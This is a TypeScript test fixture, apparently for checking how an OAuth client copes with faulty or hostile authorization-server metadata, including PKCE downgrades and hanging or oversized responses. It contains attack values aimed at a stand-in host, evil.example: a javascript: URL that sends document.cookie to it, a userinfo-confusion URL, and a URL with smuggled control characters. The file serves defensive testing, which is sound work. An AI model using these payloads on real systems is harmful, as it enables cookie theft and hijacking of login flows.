import type { JsonObject } from "../../mcp-servers/TestTool.ts"
import type { AnswerFault, OAuthFault } from "./OAuthFaults.ts"
import { padded, silence } from "./strangeResponses.ts"

/** What an authorization server says of itself. */
export const metadataFaultKinds = [
  "no_server_metadata",
  "metadata_of_another_issuer",
  "metadata_huge",
  "metadata_endless",
  "metadata_hangs",
  "pkce_not_advertised",
  "pkce_plain_only",
  "authorization_endpoint_http",
  "authorization_endpoint_custom_scheme",
  "authorization_endpoint_javascript",
  "authorization_endpoint_userinfo",
  "authorization_endpoint_control_characters",
  "token_endpoint_http",
] as const

export type MetadataFaultKind = (typeof metadataFaultKinds)[number]

export const metadataFaults: Record<MetadataFaultKind, OAuthFault> = {
  no_server_metadata: () => ({ metadata: () => new Response(null, { status: 404 }) }),
  metadata_of_another_issuer: changed({ issuer: "https://honest.example" }),
  metadata_huge: ({ bytes }) => ({ metadata: (_request, right) => padded(right(), bytes) }),
  metadata_endless: () => ({ metadata: (_request, right) => padded(right(), Infinity) }),
  metadata_hangs: () => ({ metadata: silence }),
  pkce_not_advertised: changed({ code_challenge_methods_supported: undefined }),
  pkce_plain_only: changed({ code_challenge_methods_supported: ["plain"] }),
  authorization_endpoint_http: changed({ authorization_endpoint: "http://evil.example/authorize" }),
  authorization_endpoint_custom_scheme: changed({ authorization_endpoint: "evil-app://authorize" }),
  authorization_endpoint_javascript: changed({
    authorization_endpoint: "javascript:fetch('https://evil.example/'+document.cookie)//",
  }),
  authorization_endpoint_userinfo: changed({
    authorization_endpoint: "https://honest.example@evil.example/authorize",
  }),
  // A parser drops the tab and the line breaks, and another reader of the same text stops at them.
  authorization_endpoint_control_characters: changed({
    authorization_endpoint: "https://evil.example/auth\tor\r\nize",
  }),
  token_endpoint_http: changed({ token_endpoint: "http://evil.example/token" }),
}

function changed(change: JsonObject): OAuthFault {
  const metadata: AnswerFault = (_request, right) => Response.json({ ...right().body, ...change })
  return () => ({ metadata })
}
